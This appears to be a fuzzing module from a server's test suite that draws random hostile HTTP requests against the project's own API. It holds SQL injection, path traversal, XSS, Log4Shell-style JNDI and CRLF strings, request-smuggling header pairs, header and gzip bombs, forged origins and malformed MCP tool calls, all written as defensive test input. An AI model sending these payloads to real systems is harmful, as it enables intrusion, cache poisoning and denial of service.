"""Requests that no client should send, drawn by chance; see Scripts/survival/abuse.py."""

import gzip
import json
import random
import urllib.parse

EDITOR, READER = "editor-0123456789abcdef", "reader-0123456789abcdef"
STANCE = "/api/v1/stance?actor=USA&topic=ukraine-integrity&on=2024-12-31&known_by=%23306"
# The share of each kind, in requests, and the most of it on one connection.
KINDS = {
    "questions": (25, 40), "repeats": (3, 20), "targets": (10, 40), "methods": (7, 40), "writes": (10, 40),
    "origins": (8, 40), "ranges": (7, 30), "assistants": (6, 30), "caches": (15, 200), "poison": (2, 20),
    "bodies": (0.5, 4), "gzip": (0.5, 6), "floods": (5, 200), "streams": (1, 4)}
# The kinds of request that end a connection: the server cannot tell where the next request begins.
ENDINGS = ["lines", "headers", "bombs", "chunks", "smuggling", "lengths", "tunnels"]
REFUSED = {"writes", "origins", "bodies", "gzip"}
TEXTS = [
    "'; DROP TABLE event; --", "1 OR 1=1", '" UNION SELECT * FROM event --', "%' ESCAPE '", '"', "NEAR(a b)",
    "a AND", "((((", "*", "\0", "a\0b", "x\r\nX-Injected: 1", "\u202eevil\u2066", "\u200f", "\ufeff",
    "\x7f\x80", "\U000e0041", "\x1b[31m", "e\u0301" * 100, "../../etc/passwd", "<script>alert(1)</script>",
    "-0", "1e999", "${jndi:ldap://evil/}", "NaN", "-1", "9" * 300, f"{2**63 - 1}", f"{2**63}", "#0", "#-1",
    "#999999999999999999", "0000-00-00", "2024-02-31", "9999-12-31", "2024..", "..", "#5..#1",
    "today..yesterday", "a" * 251, "\U0001f3f4" * 60, "", " ", "true", "null"]
# Percent signs that are not what they say.
LIES = ["%", "%z", "%0", "%ff%fe", "%c0%80", "%ed%a0%80", "%2", "%u0041", "%25%30%30", "%00", "%0d%0a", "+"]
PATHS = ["/", "/healthz", "/session", "/find", "/feed", "/log", "/record/rows", "/assets/app.js",
         "/schemas/a/b", "/s/USA/ukraine-integrity", "/facts/221", "/record/new/vote.cast"]
WRITES = ["/api/v1/events", "/api/v1/events/249/corrections", "/api/v1/events/249/retractions",
          "/api/v1/verifications", "/api/v1/projections/votes/rebuilds", "/record/new/vote.cast",
          "/facts/221/correct"]
BODIES = ["/mcp", "/session", "/api/v1/events"]
METHODS = ["TRACE", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "PROPFIND", "QUERY", "M-SEARCH"]
BAD_TOKENS = [
    "X-None: 1", "Authorization: Bearer wrong-0123456789abcdef", f"Authorization: Bearer {READER}",
    f"Authorization: Basic {EDITOR}", f"Authorization: Bearer {EDITOR[:-1]}", "Authorization: Bearer",
    f"Authorization: Bearer {EDITOR} {EDITOR}", f"Cookie: annals_token={READER}", "Authorization: ",
    f"X-Authorization: Bearer {EDITOR}", f"Cookie: annals_token={EDITOR}"]
FOREIGN = [
    "Origin: http://evil.example", "Origin: null", "Origin: http://localhost.evil.example", "Origin: ",
    "Sec-Fetch-Site: cross-site", "Sec-Fetch-Site: same-site", "Origin: file://",
    "Sec-Fetch-Site: cross-site\r\nOrigin: http://localhost"]
HOSTS = ["evil.example", "127.0.0.1.evil.example:80", "localhost.evil.example", "[::1", "", "[::2]"]
# Headers that mean something, and too much of it.
MEANING = [
    "Range: bytes=-1", "Range: bytes=9-1", "Range: bytes=" + "0-5," * 2000, "If-None-Match: *, *",
    "Accept: ;;q=",
    "If-None-Match: " + '"a",' * 2000, "Accept: " + "text/*;q=0.1," * 900, "Accept: */*;q=nan", "If-Match: x",
    "Accept-Encoding: gzip;q=1e9", "Last-Event-ID: -1", "Expect: 100-continue", "Cookie: " + "=;" * 6000,
    "X-Forwarded-Proto: https", "X-Forwarded-Host: evil", "TE: trailers", "X-Fragment: 1",
    "Authorization: Bearer " + "a" * 9000]
BAD_HEADERS = [
    b"A: b\0c", b"A: b\rc", b"A: b\nc: d", b"A: b\r\n folded", b" A: b", b"A : b", b": b", b"A", b"A\0: b",
    b"Host: evil.example", b"Content-Length: 0\r\n\tx: 1", b"A: \xff\xfe\x80", b"\xc3\xa9: b"]
BOMBS = [
    b"A: b\r\n" * 5000, b"A: " + b"b" * 1_000_000 + b"\r\n", b"a" * 1_000_000 + b": b\r\n",
    b"Cookie: a=b\r\n" * 90, b"".join(b"X-%d: %s\r\n" % (n, b"v" * 300) for n in range(200))]
CHUNK_SIZES = [
    b"z", b"-5", b"f" * 20, b"7fffffffffffffff", b"5;" + b"a" * 50_000, b"", b" 5", b"0x5", b"3\0", b"5"]
CHUNK_ENDS = [b"", b"\r\n", b"\r\n0\r\n", b"\r\n0\r\nA: b\r\n", b"xx0\r\n\r\n", b"\n0\n\n"]
LENGTHS = ["400", "-1", "0x5", "1e3", "9" * 20, "8388609", "9223372036854775807", "", "5 5"]
# Two lengths of one body.
SMUGGLED = [
    ["Content-Length: 5", "Transfer-Encoding: chunked"], ["Transfer-Encoding: chunked", "Content-Length: 5"],
    ["Content-Length: 5", "Content-Length: 6"], ["Content-Length: 5, 6"], ["Content-Length: +5"],
    ["Content-Length: 5", "Transfer-Encoding: xchunked"],
    ["Content-Length: 5", "Transfer-Encoding : chunked"],
    ["Content-Length: 5", "Transfer-Encoding:\x0bchunked"],
    ["Content-Length: 5", "Transfer-Encoding: chunked, identity"]]
BAD_LINES = [
    b"GET\r\n\r\n", b"GET /healthz\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\r\n" * 5000,
    b"GET /healthz HTTP/9.9\r\nHost: localhost\r\n\r\n", b"GET " + b"/a" * 500_000 + b" HTTP/1.1\r\n\r\n",
    b"GET localhost:80 HTTP/1.1\r\nHost: localhost\r\n\r\n", b"\x16\x03\x01\x02\0\x01\0\x01\xfc" * 50]
GZIP = gzip.compress(bytes(32 << 20))


def quoted(text):
    return urllib.parse.quote(text, safe="")


def request(method, target, *headers, body=None, type="application/json", host="localhost"):
    """A request with no fault of form, but for those in its parts."""
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", *headers]
    if body is not None:
        lines += [f"Content-Type: {type}", f"Content-Length: {len(body)}"]
    return "\r\n".join([*lines, "", ""]).encode() + (body or b"")


class Hostile:
    """Draws requests. Each kind that KINDS or ENDINGS name is a method."""

    def __init__(self, seed, routes):
        self.random, self.routes, self.seed, self.sent = random.Random(seed), routes, seed, 0
        self.pick = self.random.choice
        # An answer without an end is a kind of its own: streams.
        self.finite = [route for route in routes if not route[0].endswith("/stream")]

    def value(self, parameter):
        example = parameter.get("example", "")
        example = str(example[0] if isinstance(example, list) else example)
        kind = self.random.random()
        return quoted(example) if kind < 0.6 else self.pick(LIES) if kind < 0.65 else quoted(self.pick(TEXTS))

    def questions(self):
        path, parameters = self.pick(self.routes)
        query = []
        for parameter in parameters:
            if parameter["in"] == "path":
                path = path.replace("{" + parameter["name"] + "}", self.value(parameter) or "1")
            elif parameter["name"] == "topic" or self.random.random() < 0.5:
                query.append(f"{parameter['name']}={self.value(parameter)}")
        query += ["until=head"] if path.endswith("/stream") else []
        return request(self.pick(["GET", "GET", "GET", "HEAD"]), f"{path}?{'&'.join(query)}")

    def repeats(self):
        path, parameters = self.pick(self.finite)
        names = [parameter["name"] for parameter in parameters] or ["a"]
        pair = f"{self.pick(names)}={self.pick(['USA', '1', '', '%00', '%F0%9F%8F%B4'])}"
        return request("GET", f"{path}?{'&'.join([pair] * self.pick([2, 300, 500]))}")

    def targets(self):
        path = self.pick([self.pick(self.finite)[0], self.pick(PATHS)])
        parts = path.split("/")
        odd = ["..", ".", "", "%2e%2e", "..%2f", "%2f", "..\\", "a" * 9000, *LIES, quoted(self.pick(TEXTS))]
        parts.insert(self.random.randrange(1, len(parts) + 1), self.pick(odd))
        target = "/".join(parts)
        return request("GET", self.pick([
            target, target, f"http://localhost{path}", f"http://evil.example{path}", "*", path.upper(),
            target.replace("/", "//"), path + "?" + "&" * 5000, path + "#a", path + ";a=b"]))

    def methods(self):
        headers = self.pick([[], ["X-HTTP-Method-Override: POST"], ["X-Method-Override: DELETE"]])
        return request(self.pick(METHODS), self.pick([*PATHS, *WRITES, "/api/v1/head"]), *headers)

    def event(self):
        self.sent += 1
        return json.dumps({"type": "statement.made", "data": {
            "speaker": "dmitry-peskov", "kind": "quote", "text": f"abuse {self.seed} {self.sent}"}}).encode()

    def writes(self):
        path = self.pick(WRITES)
        body = b'{"reason": "none", "changes": {"choice": "yes"}}'
        body = self.event() if path.endswith("/events") else body
        body = b'{"reason": "none"}' if path.endswith("retractions") else body
        query = self.pick(["", "", "?dry_run=false", "?dry_run=true", f"?token={EDITOR}"])
        return request("POST", path + query, self.pick(BAD_TOKENS), body=body)

    def origins(self):
        """Each comes from where nobody may come from, so that even the good token does not help."""
        token = self.pick([f"Authorization: Bearer {EDITOR}", f"Cookie: annals_token={EDITOR}"])
        if self.random.random() < 0.5:
            return request("POST", "/api/v1/events", token, self.pick(FOREIGN), body=self.event())
        method, path = self.pick([("GET", STANCE), ("POST", "/api/v1/events")])
        return request(method, path, token, host=self.pick(HOSTS), body=self.event())

    def ranges(self):
        path = self.pick([STANCE, "/openapi.json", "/", "/assets/app.js"])
        return request("GET", path, self.pick(MEANING), host=self.pick(["localhost", "localhost:<x>"]))

    def assistants(self):
        if self.random.random() < 0.2:
            return request("POST", "/mcp", body=self.json(self.pick([100, 10_000])))
        arguments = self.pick([
            {}, [], {"text": self.pick(TEXTS), "limit": self.pick([-1, 2**63, 1e308, "1"])}, {"event": "\0"},
            {"actor": ["USA"] * 500}, {"topic": self.pick(TEXTS), "known_by": self.pick(TEXTS)}])
        tool = {"name": self.pick(["find", "stance", "event", "record", "x", None]), "arguments": arguments}
        name = self.pick([1, None, {}, 1e99])
        call = {"jsonrpc": "2.0", "id": name, "method": "tools/call", "params": tool}
        odd = {"jsonrpc": "2.0", "method": self.pick(TEXTS), "id": "\ud800"}
        message = self.pick([call, call, call, odd, [], [[]], 1])
        headers = ["Accept: */*", "MCP-Protocol-Version: 1", "Mcp-Method: x"]
        return request("POST", "/mcp", self.pick(headers), body=json.dumps(message).encode())

    def caches(self):
        """Questions that nobody asked before: the server keeps answers, and must forget them too."""
        self.sent += 1
        form = self.pick(["ndjson", "json"])
        return request("GET", f"/api/v1/search?format={form}&text={self.sent}-{self.seed}")

    def poison(self):
        """One value that spells like two parameters with something between, and the two parameters."""
        self.sent += 1
        question = f"/api/v1/{self.pick(['search', 'find'])}?text=p{self.sent}-{self.seed}"
        between = self.pick(["%00", "%00", "%26", "%0a"])
        return [request("GET", f"{question}{between}limit=7"), request("GET", f"{question}&limit=7")]

    def json(self, size):
        """About so many bytes for a parser that stacks, counts or copies."""
        return self.pick([
            b"[" * size, b'{"a":' * (size // 5), b"[" + b"1," * (size // 2) + b"1]", b"\xff" * size,
            b"[" + b"[]," * (size // 3) + b"1]", b'{"a":1' + b',"a":1' * (size // 6) + b"}", b"1" * size,
            b'"' + b"\\u0000" * (size // 6) + b'"', b'{"a":1e' + b"9" * size + b"}", b" " * size])

    def bodies(self):
        size = self.pick([100, 10_000, 1_000_000])
        return request("POST", self.pick(WRITES[:3]), self.pick(BAD_TOKENS), body=self.json(size))

    def giants(self):
        """The longest bodies, to the routes that read one without a token."""
        if self.random.random() < 0.6:
            return request("POST", "/mcp", body=self.json(8_000_000))
        form = self.pick([b"a=&", b"&&&", b"token=a&", b"%41"]) * 1_000_000
        return request("POST", "/session", body=form, type="application/x-www-form-urlencoded")

    def gzip(self):
        coding = self.pick(["gzip", "gzip, gzip", "br", "x"])
        return request("POST", self.pick(WRITES), f"Content-Encoding: {coding}", body=GZIP)

    def floods(self):
        return request("GET", self.pick([
            STANCE, "/openapi.json", "/api/v1/export", "/api/v1/report?topic=ukraine-integrity"]))

    def streams(self):
        return request("GET", "/api/v1/stream" + self.pick(["", "?after=0", "?subject=USA"]))

    # What ends a connection

    def lines(self):
        if self.random.random() < 0.3:
            return self.pick(BAD_LINES)
        whole = bytearray(request("GET", STANCE))
        for _ in range(self.random.randrange(1, 6)):
            place = self.random.randrange(len(whole))
            put = self.pick([b"\0", b"\r", b"\n", b" ", b"\t", b"\xff", self.random.randbytes(9)])
            whole[place:place + self.pick([0, 1])] = put
        return bytes(whole)

    def headers(self):
        bad = self.pick([*BAD_HEADERS, self.random.randbytes(200)])
        return b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n" + bad + b"\r\n\r\n"

    def bombs(self):
        return b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n" + self.pick(BOMBS) + b"\r\n"

    def chunks(self):
        head = request(
            "POST", self.pick(BODIES), "Content-Type: application/json", "Transfer-Encoding: chunked")
        return head + self.pick(CHUNK_SIZES) + b"\r\nabcde" + self.pick(CHUNK_ENDS)

    def smuggling(self):
        head = request("POST", "/mcp", "Content-Type: application/json", *self.pick(SMUGGLED))
        return head + b"0\r\n\r\n" + request("GET", "/healthz")

    def lengths(self):
        return request("POST", self.pick(BODIES), "Content-Type: application/json",
                       f"Content-Length: {self.pick(LENGTHS)}") + b"{}"

    def tunnels(self):
        """What asks for another protocol, and then speaks it."""
        target = self.pick(["localhost:22", "/", "evil.example:443"])
        return request("CONNECT", target) + self.random.randbytes(100)
